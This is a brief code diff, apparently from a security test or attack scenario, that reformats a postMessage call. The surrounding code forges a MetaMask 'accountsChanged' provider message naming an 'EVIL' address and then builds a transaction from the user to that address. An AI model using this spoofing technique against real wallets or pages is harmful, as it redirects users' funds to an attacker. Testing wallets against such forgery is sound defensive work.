@@ -18,7 +18,10 @@ export default {
     window.addEventListener('message', forge, true);
     const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }).catch((error) => error.code);
     const changed = { jsonrpc: '2.0', method: 'metamask_accountsChanged', params: [a.EVIL] };
-    window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: changed } }, location.origin);
+    window.postMessage(
+      { target: 'metamask-inpage', data: { name: 'metamask-provider', data: changed } },
+      location.origin,
+    );
     await new Promise((resolve) => setTimeout(resolve, 100));
     window.removeEventListener('message', forge, true);
     const tx = { from: a.USER, to: a.EVIL, value: '0x5' };
